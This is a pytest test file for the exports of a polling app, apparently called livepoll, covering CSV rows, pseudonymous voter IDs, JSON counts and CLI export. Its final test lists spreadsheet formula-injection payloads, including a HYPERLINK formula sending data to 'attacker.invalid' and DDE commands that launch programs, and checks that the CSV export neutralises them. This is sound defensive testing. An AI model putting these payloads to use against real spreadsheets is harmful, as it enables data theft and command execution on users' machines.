"""Exports: what the organiser takes away, read back from a database a real server wrote."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from clients import chair, new_voter_token, open_phone
from livepoll import deck as deck_module
from livepoll.export import ExportError, export
from livepoll.server.app import ServerConfig, running_server
from livepoll.spreadsheet import FORMULA_TRIGGERS
from livepoll.words import clean_text


async def seed(config: ServerConfig, tokens: list[str]) -> int:
    """Run a session where each token votes on q1 and q2; returns the session id."""
    async with running_server(config) as server:
        await chair(server, "toggle_voting")
        phones = [await open_phone(server, token) for token in tokens]
        for index, phone in enumerate(phones):
            assert (await phone.vote("q1", index % 3))["type"] == "ack"
        assert (await phones[0].vote("q1", 2))["type"] == "ack"
        await chair(server, "next", "toggle_voting")
        for phone in phones:
            assert (await phone.vote("q2", [0, 3]))["type"] == "ack"
        for phone in phones:
            await phone.connection.close()
        return server.session_id


async def test_csv_has_one_readable_row_per_response(server_config: ServerConfig) -> None:
    """CSV rows carry the question, the option texts and ISO UTC times, one per response."""
    tokens = [new_voter_token() for _ in range(3)]
    session_id = await seed(server_config, tokens)
    text = await export(server_config.database, "csv", None)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 6
    q1 = [row for row in rows if row["question_id"] == "q1"]
    assert sorted(row["answer"] for row in q1) == ["No", "Not sure", "Not sure"]
    q2 = [row for row in rows if row["question_id"] == "q2"]
    assert {row["answer"] for row in q2} == {"Legacy systems; Budget"}
    assert {row["type"] for row in q2} == {"multi"}
    assert {row["session"] for row in rows} == {str(session_id)}
    for row in rows:
        assert row["first_answer_at"].endswith("Z")
        assert row["first_answer_at"] <= row["last_answer_at"]
    changed = [row for row in q1 if row["first_answer_at"] != row["last_answer_at"]]
    assert len(changed) == 1, "the changed answer keeps its first time and gets a new last time"


async def test_pseudonyms_are_stable_within_a_session_and_hide_tokens(
    server_config: ServerConfig,
) -> None:
    """A voter has one pseudonym per session, a new one in another session, never the token."""
    tokens = [new_voter_token() for _ in range(3)]
    await seed(server_config, tokens)
    await seed(server_config, tokens)
    text = await export(server_config.database, "csv", None)
    rows = list(csv.DictReader(io.StringIO(text)))
    by_session: dict[str, set[str]] = {}
    for row in rows:
        by_session.setdefault(row["session"], set()).add(row["voter"])
    first, second = by_session.values()
    assert len(first) == len(second) == 3
    assert not first & second, "pseudonyms do not link voters across sessions"
    for token in tokens:
        assert token not in text
    with sqlite3.connect(server_config.database) as db:
        dump = "\n".join(db.iterdump())
    for token in tokens:
        assert token not in dump, "the raw voter token is never stored"


async def test_json_has_counts_percentages_and_responses(server_config: ServerConfig) -> None:
    """JSON nests sessions, questions with option counts and percentages, and responses."""
    await seed(server_config, [new_voter_token() for _ in range(4)])
    document = json.loads(await export(server_config.database, "json", None))
    (session,) = document["sessions"]
    q1, q2 = session["questions"]
    assert q1["respondents"] == 4
    assert [option["count"] for option in q1["options"]] == [1, 1, 2]
    assert [option["percent"] for option in q1["options"]] == [25.0, 25.0, 50.0]
    assert q1["status"] == "closed"
    assert q2["status"] == "open"
    assert [option["count"] for option in q2["options"]] == [4, 0, 0, 4]
    assert len(session["responses"]) == 8
    assert session["responses"][-1]["answer"] == "Legacy systems; Budget"
    assert session["responses"][-1]["value"] == [0, 3]
    kinds = [event["kind"] for event in session["events"]]
    assert kinds[:2] == ["started", "opened"]
    assert "moved" in kinds


async def test_unknown_session_is_a_clear_error(server_config: ServerConfig) -> None:
    """Asking for a session that is not in the database names the ones that are."""
    session_id = await seed(server_config, [new_voter_token()])
    with pytest.raises(ExportError, match=f"no session 99 .* \\(sessions: {session_id}\\)"):
        await export(server_config.database, "csv", [99])


def test_export_refuses_a_file_that_is_not_a_livepoll_database(tmp_path: Path) -> None:
    """A foreign SQLite file is reported, and left untouched."""
    foreign = tmp_path / "other.db"
    with sqlite3.connect(foreign) as db:
        db.execute("CREATE TABLE notes (x)")
    before = foreign.read_bytes()
    result = subprocess.run(
        [sys.executable, "-m", "livepoll", "export", "--db", str(foreign)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert "not a livepoll database" in result.stderr
    assert foreign.read_bytes() == before


async def test_export_command_writes_csv_to_a_file(
    server_config: ServerConfig, tmp_path: Path
) -> None:
    """`livepoll export --format csv --output F` writes the same CSV the API returns."""
    await seed(server_config, [new_voter_token() for _ in range(2)])
    output = tmp_path / "answers.csv"
    command = [sys.executable, "-m", "livepoll", "export", "--db", str(server_config.database)]
    result = await asyncio.to_thread(
        subprocess.run,
        [*command, "--format", "csv", "--output", str(output)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert output.read_bytes().decode("utf-8") == await export(server_config.database, "csv", None)


FORMULA_DECK = """title = "=Formulas"
[[questions]]
id = "idea"
type = "text"
prompt = "One idea"
display = "wall"

[[questions]]
id = "ask"
type = "qa"
prompt = "@Questions"
"""
ATTACKS = (
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1",
    "\t=2+2",
    "\r=3+3",
    "\n=4+4",
    "\u00a0=5+5",
    "  +6+6",
    "-7-7",
    "@A1",
)


async def test_csv_cells_never_start_a_formula_and_json_keeps_the_raw_text(
    server_config: ServerConfig,
) -> None:
    """Attack answers and Q&A questions from phones are neutralised in CSV, raw in JSON."""
    deck = deck_module.from_text(FORMULA_DECK, "formulas.toml")
    config = dataclasses.replace(server_config, deck=deck)
    async with running_server(config) as server:
        phones = [await open_phone(server) for _ in ATTACKS]
        await chair(server, "toggle_voting")
        for phone, attack in zip(phones, ATTACKS, strict=True):
            assert (await phone.vote("idea", attack))["type"] == "ack"
        await chair(server, "next", "toggle_voting")
        for phone, attack in zip(phones, ATTACKS, strict=True):
            phone.seq += 1
            await phone.connection.send(
                json.dumps({"type": "ask", "q": "ask", "text": attack, "seq": phone.seq})
            )
            assert (await phone.reply())["type"] == "ack"
        for phone in phones:
            await phone.connection.close()
    cleaned = [clean_text(attack) for attack in ATTACKS]
    assert all(text.startswith(("=", "+", "-", "@")) for text in cleaned), "real attacks"

    csv_text = await export(config.database, "csv", None)
    rows = list(csv.reader(io.StringIO(csv_text)))
    assert len(rows) == 1 + 2 * len(ATTACKS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), (cell, row)
    answers = sorted(row[rows[0].index("answer")] for row in rows[1:])
    assert answers == sorted("'" + text for text in cleaned * 2)
    assert {row[rows[0].index("deck")] for row in rows[1:]} == {"'=Formulas"}

    document = json.loads(await export(config.database, "json", None))
    (session,) = document["sessions"]
    assert sorted(response["answer"] for response in session["responses"]) == sorted(cleaned)
    assert sorted(item["text"] for item in session["qa_items"]) == sorted(cleaned)
    assert session["deck"] == "=Formulas"
